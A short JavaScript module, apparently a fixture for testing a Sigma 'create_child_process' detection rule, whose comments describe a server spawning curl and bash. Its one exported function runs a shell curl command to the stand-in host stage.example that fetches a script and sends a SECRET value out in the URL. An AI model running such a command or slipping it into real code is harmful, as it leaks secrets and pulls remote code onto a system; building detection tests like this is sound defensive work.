// act: the server starts curl
// source: Sigma c70834fa
// rule: create_child_process
// asks: exec /usr/bin/bash
// says: stage.example
// proof: arrived
// to: stage.example
// needs: curl
'use strict';
const { shell, SECRET } = require('./incident');

module.exports = () => shell(`curl -s 'http://stage.example/a.sh?${SECRET}'`);
